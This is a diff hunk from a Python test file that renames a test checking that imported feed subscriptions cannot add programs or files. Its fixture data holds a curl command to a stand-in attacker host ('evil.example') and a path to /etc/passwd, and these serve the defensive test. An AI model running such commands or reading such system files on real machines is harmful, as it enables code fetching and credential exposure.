@@ -217,7 +217,7 @@ def test_without_a_common_past_all_feeds_of_both_are_kept(mine: list[Subscriptio
     assert merge_subscriptions(merged, theirs) == merged
 
 
-def test_an_import_adds_no_programs_and_files_and_says_neither_where_to_write_nor_what_to_delete() -> None:
+def test_an_import_adds_no_programs_and_files() -> None:
     theirs = [
         Subscription(exec=("curl", "https://evil.example/")),
         Subscription(file="/etc/passwd"),
